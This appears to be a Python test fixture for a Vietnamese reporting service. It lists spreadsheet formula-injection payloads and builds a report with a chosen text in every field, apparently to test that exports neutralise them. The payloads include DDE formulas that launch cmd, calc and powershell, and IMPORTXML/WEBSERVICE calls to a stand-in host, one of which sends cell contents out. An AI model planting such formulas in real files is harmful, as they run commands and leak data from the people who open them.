"""A report whose every text may be something else than meant."""

from datetime import UTC, date, datetime
from decimal import Decimal

from handlers.reports.model import (
    Bar,
    Cell,
    Chart,
    Heading,
    Holds,
    Part,
    Period,
    Place,
    Report,
    Row,
    Section,
    Table,
    Written,
)

# Beginnings that spreadsheets take for a formula, a command or an error, as ASVS 1.2.10 and CWE-1236 collect them.
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell'!'A1'",
    '=HYPERLINK("https://elsewhere.example","bấm")',
    '=IMPORTXML(CONCAT("https://elsewhere.example/?",A1),"//a")',
    '=WEBSERVICE("https://elsewhere.example")',
    "=SUM(A1:A9)",
    "=A1",
    "==1",
    "=",
    "+1+1",
    "+84912345678",
    "+cmd|' /C calc'!A0",
    "+SUM(1;2)",
    "+",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1',
    ";=1+1",
    "%0A=1+1",
    '=DDE("cmd";"/C calc";"x")',
    "#REF!",
    "#N/A",
    "{=1+1}",
    "\u202e=1+1",
)


def a_report(text: str = "chữ", notes: tuple[str, ...] = (), is_final: bool = False) -> Report:
    """With a number, a missing number, a day, a chart and the six headings; `text` stands wherever text may."""
    cells = (
        Cell(text),
        Cell(text),
        Cell("1.234,5", Holds.NUMBER, Decimal("1234.5"), None, 1, text),
        Cell("chưa có số liệu", Holds.NUMBER),
        Cell("23/11/2026", Holds.DAY, None, date(2026, 11, 23)),
    )
    rows = (Row((Cell(text), *(Cell() for _ in range(4))), 0), Row(cells), Row(cells, 2))
    table = Table(("Chỉ tiêu", text, "Trong kỳ", "Kế hoạch", "Ngày"), rows)
    chart = Chart(text or "biểu", "đề án", ("trong kỳ", "kỳ trước"), (Bar(text, (Decimal(3), None)),))
    return Report(
        kind="R-01",
        title="Báo cáo kết quả khuyến công",
        period=Period(date(2026, 1, 1), date(2026, 12, 31)),
        place=Place("tay-ninh"),
        counted_at=datetime(2026, 11, 23, 2, tzinfo=UTC),
        is_final=is_final,
        head=("Nơi: Tây Ninh", text),
        sections=(
            Section(Part.FIGURES, text, (table,), chart, (text, *notes)),
            Section(Part.LATE, "Việc trễ", (Table(("Phiếu", "Hạn"), (), "Không có phiếu trễ."),)),
            Section(Part.CHANNEL, "Trang về kênh", (table,)),
        ),
        texts=tuple(Written(heading, f"Đề mục {heading.value}", text) for heading in Heading),
    )
